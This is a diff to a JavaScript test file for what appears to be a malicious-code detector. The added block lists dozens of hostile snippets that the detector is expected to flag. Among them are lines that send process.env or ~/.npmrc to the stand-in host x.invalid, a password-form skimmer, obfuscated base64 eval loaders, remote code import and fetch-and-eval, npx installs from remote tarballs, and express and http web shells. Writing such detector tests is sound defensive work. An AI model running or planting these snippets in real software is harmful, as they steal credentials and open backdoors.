@@ -175,6 +175,58 @@ describe('theft and persistence', () => {
   });
 });
 
+describe('names and texts that are reached in still other ways', () => {
+  test.each([
+    `const p = new Proxy(process, {}); fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(p.env) })`,
+    `function* g() { yield process.env } for (const e of g()) fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(e) })`,
+    `const E = require('events'), e = new E(); e.on('x', (d) => require('https').request({ host: 'x.invalid' }).end(d)); e.emit('x', JSON.stringify(process.env))`,
+    `const { Worker } = require('worker_threads'); new Worker("require('https').request({host:'x.invalid'}).end(JSON.stringify(process.env))", { eval: true })`,
+    `const m = { get h() { return require('https') }, get d() { return JSON.stringify(process.env) } }; m.h.request({ host: 'x.invalid' }).end(m.d)`,
+    `let a = require('fs'); a = require('https'); a.request({ host: 'x.invalid' }).end(JSON.stringify(process.env))`,
+    `const \\u0070 = process; fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(p.env) })`,
+    `module.exports = async ({ h = require('https'), e = process.env } = {}) => h.request({ host: 'x.invalid' }).end(JSON.stringify(e))`,
+    `const mods = ['https', 'os'].map(require); mods[0].request({ host: 'x.invalid' }).end(JSON.stringify(process.env))`,
+    `const [h, o] = ['https', 'os'].map((m) => require(m)); h.request({ host: 'x.invalid' }).end(JSON.stringify({ ...process.env, o: o.hostname() }))`,
+    `const r = eval('req' + 'uire'); r('https').request({ host: 'x.invalid' }).end(JSON.stringify(process.env))`,
+    `export default { async run() { const { request } = await import('node:https'); request({ host: 'x.invalid' }).end(JSON.stringify(process.env)) } }`,
+    `Promise.all([import('https'), import('os')]).then(([h, o]) => h.request({ host: 'x.invalid' }).end(JSON.stringify({ e: process.env, o: o.hostname() })))`,
+    `const { default: ax } = require('axios'); const c = ax.create({ baseURL: 'https://x.invalid' }); c.post('/', process.env)`,
+    `class B { #e = process.env; #h = require('https'); run = () => { const q = this.#h.request({ host: 'x.invalid' }); q.end(JSON.stringify(this.#e)) } } new B().run()`,
+    `const lib = {}; lib.http = require('https'); lib.env = () => process.env; function run({ http, env }) { http.request({ host: 'x.invalid' }).end(JSON.stringify(env())) } run(lib)`,
+    `const s = (...a) => JSON.stringify(...a); require('https').request({ host: 'x.invalid' }).end(s(process.env))`,
+    `const send = (d) => { const h = require('https'); h.request({ host: 'x.invalid' }, () => {}).end(d) }; setTimeout(send, 1000, JSON.stringify(process.env))`,
+    `const u = require('url').parse('https://x.invalid'); u.method = 'POST'; const q = require('https').request(u); q.write(JSON.stringify(process.env)); q.end()`,
+    `require('fs').createReadStream(require('os').homedir() + '/.npmrc').pipe(require('https').request({ host: 'x.invalid', method: 'POST' }))`,
+    `const form = document.querySelector('form'); form.addEventListener('submit', () => fetch('https://x.invalid', { method: 'POST', body: document.querySelector('input[type=password]').value }))`,
+    `eval(new Buffer('${encoded}', 'base64').toString())`,
+    `eval(Buffer.from(process.env.npm_package_config_x, 'base64').toString())`,
+    `const t = require('./package.json').x; eval(Buffer.from(t, 'hex').toString())`,
+    `var s = '${encoded}'; var f = new Function(Buffer.from(s, 'base64')); f()`,
+    `const c = ['e', 'v', 'a', 'l'].join(''); global[c](atob('${encoded}'))`,
+    `require('vm').compileFunction(atob('${encoded}'))()`,
+    `(async()=>{}).constructor(atob('${encoded}'))()`,
+    `new Function(...[atob('${encoded}')])()`,
+    `require('module').prototype._compile.call(module, atob('${encoded}'), '')`,
+    `process.mainModule.constructor._load(atob('Y2hpbGRfcHJvY2Vzcw==')).exec(atob('ZWNobyBjYXNl'))`,
+    `const Y = (s, k) => Buffer.from(s, 'base64').map((c, i) => c ^ k.charCodeAt(i % k.length)).toString(); eval(Y('abcd', 'k'))`,
+    `var _ = {a: function (x) { return x.split('').map(function (c) { return String.fromCharCode(c.charCodeAt(0) - 1) }).join('') }}; eval(_.a('dpotpmf/mph)2*<dpotpmf/mph)3*'))`,
+    `require('child_process').execFile('node', ['-e', "fetch('https://x.invalid').then(r=>r.text()).then(eval)"])`,
+    `const c = require('child_process'); c.exec('node -e "' + atob('${encoded}') + '"')`,
+    `const s = require('child_process').spawn('node'); s.stdin.end(Buffer.from('${encoded}', 'base64'))`,
+    `import { writeFile } from 'fs/promises'; await writeFile('/tmp/x.mjs', atob('${encoded}')); await import('/tmp/x.mjs')`,
+    `const d = await (await fetch('https://x.invalid/m.js')).text(); await import('data:text/javascript,' + encodeURIComponent(d))`,
+    `import('https://x.invalid/m.js')`,
+    `const { Connection } = require('@solana/web3.js'); new Connection('https://x.invalid').getTransaction(x).then((t) => eval(t.memo))`,
+    `const e = require('ethers'); const c = new e.Contract(a, i, p); c.get().then((s) => require('child_process').exec(Buffer.from(s, 'hex').toString()))`,
+    `require('child_process').exec('npm install http://x.invalid/p.tgz')`,
+    `require('child_process').execSync('npx -y http://x.invalid/p.tgz')`,
+    `const app = require('express')(); app.post('/x', (q, r) => r.send(require('child_process').execSync(q.body.c)))`,
+    `require('http').createServer((q, r) => { r.end(eval(decodeURIComponent(q.url.slice(1)))) }).listen(1337)`,
+  ])('%s', (text) => {
+    expect(ranks.indexOf(tierOf(text) ?? 'note')).toBeGreaterThan(0);
+  });
+});
+
 describe('honest code is quiet', () => {
   test.each([
     `module.exports = (t) => new Function('d', 'with (d) { return \`' + t + '\` }')`,
